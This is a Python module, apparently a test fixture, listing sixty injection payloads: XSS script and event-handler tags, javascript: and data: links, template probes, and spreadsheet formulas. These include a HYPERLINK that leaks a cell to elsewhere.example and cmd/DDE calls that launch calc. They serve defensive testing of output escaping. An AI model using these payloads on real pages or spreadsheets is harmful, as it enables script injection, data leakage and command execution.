"""Sixty texts that would do something if a page obeyed them: scripts, tags, links, formulas, and marks of the pages' own."""

from __future__ import annotations

_ALERT = "alert('obeyed')"
SCRIPTS = (
    f"<script>{_ALERT}</script>",
    f"<SCRIPT SRC=data:text/javascript,{_ALERT}></SCRIPT>",
    f'"><script>{_ALERT}</script>',
    f"'><script>{_ALERT}</script>",
    f"</title><script>{_ALERT}</script>",
    f"</textarea><script>{_ALERT}</script>",
    f"</style><script>{_ALERT}</script>",
    f"</script><script>{_ALERT}</script>",
    f"--><script>{_ALERT}</script>",
    f"<scr<script>ipt>{_ALERT}</scr</script>ipt>",
    f"<script\x0b>{_ALERT}</script>",
    f"\uff1cscript\uff1e{_ALERT}\uff1c/script\uff1e",
    f"%3Cscript%3E{_ALERT}%3C/script%3E",
    f"&lt;script&gt;{_ALERT}&lt;/script&gt;",
    f"&#60;script&#62;{_ALERT}&#60;/script&#62;",
    f"\\u003cscript\\u003e{_ALERT}\\u003c/script\\u003e",
)
TAGS = (
    f"<img data-obeyed src=x onerror={_ALERT}>",
    f'<img data-obeyed src="x" onerror="{_ALERT}">',
    f"<IMG DATA-OBEYED SRC=x ONERROR={_ALERT}",
    f"<svg data-obeyed onload={_ALERT}>",
    f"<svg data-obeyed><script>{_ALERT}</script></svg>",
    f"<svg data-obeyed><animate onbegin={_ALERT} attributeName=x dur=1s>",
    f'<math data-obeyed><mi xlink:href="javascript:{_ALERT}">x</mi></math>',
    f"<body data-obeyed onload={_ALERT}>",
    f'<iframe data-obeyed src="javascript:{_ALERT}"></iframe>',
    f'<iframe data-obeyed srcdoc="<script>{_ALERT}</script>"></iframe>',
    f'<object data-obeyed data="javascript:{_ALERT}"></object>',
    f'<embed data-obeyed src="javascript:{_ALERT}">',
    f"<video data-obeyed><source onerror={_ALERT}></video>",
    f"<audio data-obeyed src=x onerror={_ALERT}></audio>",
    f"<details data-obeyed open ontoggle={_ALERT}>x</details>",
    f"<input data-obeyed autofocus onfocus={_ALERT}>",
    f"<select data-obeyed autofocus onfocus={_ALERT}></select>",
    f"<marquee data-obeyed onstart={_ALERT}>x</marquee>",
    f'<a data-obeyed href="javascript:{_ALERT}">click</a>',
    f'<form data-obeyed action="javascript:{_ALERT}"><button>go</button></form>',
    f'<meta data-obeyed http-equiv=refresh content="0;url=javascript:{_ALERT}">',
    '<base data-obeyed href="https://elsewhere.example/">',
    '<link data-obeyed rel=stylesheet href="https://elsewhere.example/x.css">',
    "<style data-obeyed>body{display:none}</style>",
    '<b data-obeyed style="position:fixed;inset:0;background:red">over everything</b>',
    f'" autofocus onfocus="{_ALERT}" data-obeyed="',
)
LINKS = (
    f"[click](javascript:{_ALERT})",
    f"[click](JaVaScRiPt:{_ALERT})",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    f"<javascript:{_ALERT}>",
    "![picture](https://elsewhere.example/followed.png)",
    "![picture][1]\n\n[1]: https://elsewhere.example/followed.png",
    "https://elsewhere.example/now",
    f"[a]: javascript:{_ALERT}\n\n[a]",
)
MARKS = (
    "$\\href{javascript:alert(1)}{click}$",
    "$$\\includegraphics{https://elsewhere.example/x.png}$$",
    ":red[obeyed] :material/delete: :streamlit: :rainbow[obeyed] :red-background[obeyed]",
    "# A heading\n\n- a list\n\n| a | table |\n|---|---|\n| x | y |",
    "```html\n<script>alert('obeyed')</script>\n```",
    "{{ 7*7 }} ${7*7} #{7*7} <%= 7*7 %>",
)
FORMULAS = (
    '=HYPERLINK("https://elsewhere.example/?leak="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)
HOSTILE = (*SCRIPTS, *TAGS, *LINKS, *MARKS, *FORMULAS)
"""All sixty of them."""
OBEYED = "[data-obeyed], a[href^='javascript' i], a[href*='elsewhere.example'], img[src*='elsewhere.example'], iframe, .katex"
"""What is on no page unless one of them was obeyed."""
assert len(HOSTILE) == 60
